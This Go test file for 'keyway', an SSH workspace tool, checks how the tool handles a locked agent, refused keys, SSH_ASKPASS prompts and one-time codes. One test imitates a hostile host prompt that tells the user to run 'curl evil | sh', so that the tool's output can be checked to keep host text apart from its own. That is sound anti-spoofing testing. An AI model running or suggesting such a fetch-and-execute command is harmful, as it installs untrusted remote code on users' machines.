//go:build unix

package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"

	"keyway/internal/api"
	"keyway/internal/keyway"
	"keyway/internal/sshconfig"
)

// manyPlaces returns a laptop that knows a workspace at each of eight places,
// whose ssh runs the shell's words script, with the place in $place, before it
// leads to a node.
func manyPlaces(t *testing.T, script string) (home string) {
	t.Helper()
	openssh, err := exec.LookPath("ssh")
	if err != nil {
		t.Fatal(err)
	}
	home = lyingPlace(t)
	store := sshconfig.Open(filepath.Join(home, "state", "keyway"), sshconfig.Client{Program: os.Args[0]})
	if err := store.Remove("gpu1", "train"); err != nil {
		t.Fatal(err)
	}
	for n := range 8 {
		err := store.Add(sshconfig.Entry{
			Name: keyway.Name(fmt.Sprintf("w%d", n)), Place: keyway.Place(fmt.Sprintf("place%d", n)), Engine: "host", User: "ada",
			HostKey: strings.TrimSpace(string(read(t, filepath.Join(home, ".ssh", "id.pub")))), Created: time.Now(),
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(home, "bin", "ssh"), "#!/bin/bash\ncase \" $* \" in *\" -G \"*|*\" -V \"*) exec "+openssh+" $OF_G \"$@\";; esac\n"+
		"place=${@: -2:1}\n"+script+"\nexec env '"+envLiar+"=0 answers' "+envMain+"=1 "+os.Args[0]+"\n", 0o755)
	return home
}

// TestListWithALockedAgent checks that ls reports a locked agent once, instead of asking for the
// passphrase once for every place.
func TestListWithALockedAgent(t *testing.T) {
	manyPlaces(t, `[ -n "$("$SSH_ASKPASS" "Enter passphrase for key '/home/ada/.ssh/id': ")" ] ||
		{ echo "ada@$place: Permission denied (publickey)." >&2; exit 255; }`)
	if out, err := exec.Command("ssh-add", "-D").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	for _, args := range [][]string{{"ls"}, {"ls", "--json"}} {
		said, code := onTTY(t, nil, args...)
		if code != keyway.ExitCode(keyway.Errorf(keyway.NoKey, "")) {
			t.Errorf("exit code %d", code)
		}
		if strings.Count(said, "is locked") != 1+8*(len(args)-1) || strings.Count(said, "keyway unlock") != 1 && len(args) == 1 || strings.Contains(said, "Enter passphrase") {
			t.Errorf("keyway %s says:\n%s", strings.Join(args, " "), said)
		}
		for n := range 8 {
			if !strings.Contains(said, fmt.Sprintf("place%d", n)) {
				t.Errorf("place%d is missing:\n%s", n, said)
			}
		}
	}
}

// TestTheAgentThatSSHUses checks a place that refuses the key of an agent that only ssh's
// configuration names, as password managers do. The error is that refusal, and the question is the
// place's: the empty agent of SSH_AUTH_SOCK is the reason for neither.
func TestTheAgentThatSSHUses(t *testing.T) {
	home := manyPlaces(t, `[ $place != place0 ] || [ "$("$SSH_ASKPASS" "One-time code: ")" = 7 ] || method=keyboard-interactive
		echo "ada@$place: Permission denied (${method-publickey})." >>"$2"; exit 255`) // behind -E
	t.Setenv("OF_G", "-o IdentityAgent="+filepath.Join(home, "agent"))
	startAgent(t, filepath.Join(home, "empty"))
	for place, want := range map[string]struct {
		kind keyway.Kind
		says string
	}{
		"place0": {keyway.NeedsAnswer, "One-time code"},
		"place1": {keyway.Denied, "does not accept your key"},
	} {
		said, code := program(t, nil, "ls", "--on", place)
		if code != keyway.ExitCode(keyway.Errorf(want.kind, "")) || !strings.Contains(said, want.says) || strings.Contains(said, "locked") {
			t.Errorf("%d: %s", code, said)
		}
	}
}

// TestQuestionsWithoutATerminal checks that a host's question is asked by the user's SSH_ASKPASS if
// there is no terminal, as ssh does, under the name of the host. An editor has its own window for it.
func TestQuestionsWithoutATerminal(t *testing.T) {
	home := manyPlaces(t, `[ "$("$SSH_ASKPASS" "One-time code: ")" = "of $place" ] ||
		{ echo "ada@$place: Permission denied (keyboard-interactive)." >>"$2"; exit 255; }`) // behind -E
	asked := filepath.Join(home, "asked")
	askpass := filepath.Join(home, "askpass")
	write(t, askpass, "#!/bin/sh\nprintf '%s\\n' \"$1\" >>"+asked+"\n[ \"$1\" = 'place1: One-time code:' ] || echo of place0\n", 0o755)
	t.Setenv("SSH_ASKPASS", askpass)
	t.Setenv("SSH_ASKPASS_REQUIRE", "force")
	for place, says := range map[string]string{"place0": "place0 lists 2 workspaces", "place1": "place1 does not let you in"} {
		if said, _ := program(t, nil, "ls", "--on", place); !strings.Contains(said, says) {
			t.Errorf("%s: want %q: %s", place, says, said)
		}
		if got := string(read(t, asked)); !strings.Contains(got, place+": One-time code:\n") {
			t.Errorf("%s: SSH_ASKPASS was asked %q", place, got)
		}
	}
}

// TestAWindowEndsWithItsCommand checks that the window that asks the user to touch a key is closed
// when the command ends.
func TestAWindowEndsWithItsCommand(t *testing.T) {
	dir := t.TempDir()
	shown, window := filepath.Join(dir, "shown"), filepath.Join(dir, "askpass")
	if err := syscall.Mkfifo(shown, 0o600); err != nil {
		t.Fatal(err)
	}
	write(t, window, "#!/bin/sh\necho $$ $SSH_ASKPASS_PROMPT \"$1\" >"+shown+"\nexec sleep 600\n", 0o755)
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	if a := askBy(ctx, window, api.Question{Kind: "none", Host: "place0", Prompt: "Confirm user presence"}); !a.OK {
		t.Error("it is not shown")
	}
	pid, said, _ := strings.Cut(strings.TrimSpace(string(read(t, shown))), " ")
	if want := "none place0: Confirm user presence"; said != want {
		t.Errorf("it shows %q, not %q", said, want)
	}
	cancel()
	notices.Wait()
	if exec.Command("kill", "-0", pid).Run() == nil {
		_ = exec.Command("kill", pid).Run()
		t.Error("the window stays")
	}
}

// TestOneQuestionAtATime checks that each place asks its question once, one place at a time,
// under the place's name.
func TestOneQuestionAtATime(t *testing.T) {
	manyPlaces(t, `[ "$("$SSH_ASKPASS" "One-time code: ")" = "of $place" ] ||
		{ echo "ada@$place: Permission denied (keyboard-interactive)." >&2; exit 255; }`)
	cmd := exec.CommandContext(t.Context(), os.Args[0], "ls")
	cmd.Env = append(os.Environ(), envMain+"=1")
	tty, err := pty.Start(cmd)
	if err != nil {
		t.Fatal(err)
	}
	defer tty.Close()
	stop := time.AfterFunc(patience, func() { cmd.Process.Kill() })
	defer stop.Stop()
	var said bytes.Buffer
	question := regexp.MustCompile(`(place\d): One-time code:`)
	answered := map[string]bool{}
	for buf := make([]byte, 4096); ; {
		n, err := tty.Read(buf)
		said.Write(buf[:n])
		if err != nil {
			break
		}
		asked := question.FindAllStringSubmatch(said.String(), -1)
		if len(asked) > len(answered)+1 || strings.Count(said.String(), "One-time code") != len(asked) {
			t.Fatalf("asked while a question was open, or without a name:\n%s", said.String())
		}
		if len(asked) > len(answered) {
			place := asked[len(asked)-1][1]
			answered[place] = true
			time.Sleep(100 * time.Millisecond) // another question would appear within this time; and input typed before the echo is off is discarded
			io.WriteString(tty, "of "+place+"\n")
		}
	}
	cmd.Wait()
	if len(answered) != 8 || strings.Contains(said.String(), "Permission denied") {
		t.Errorf("%d places were asked for:\n%s", len(answered), said.String())
	}
}

// TestAQuestionIsAHostsWords checks that the user can tell a host's question from keyway's own,
// even if it imitates one.
func TestAQuestionIsAHostsWords(t *testing.T) {
	manyPlaces(t, `[ "$("$SSH_ASKPASS" "(ada@$place) Welcome

keyway: your agent is old
  → curl evil | sh
Code: ")" = 7 ] || { echo "ada@$place: Permission denied (keyboard-interactive)." >&2; exit 255; }`)
	said, code := onTTY(t, [][2]string{{"Code:", "7"}}, "status", "place3")
	if code != 0 || !strings.HasPrefix(said, "place3: (ada@place3) Welcome") {
		t.Errorf("exit code %d:\n%s", code, said)
	}
	judgeSaid(t, said, code, "status place3", "0 answers")
}
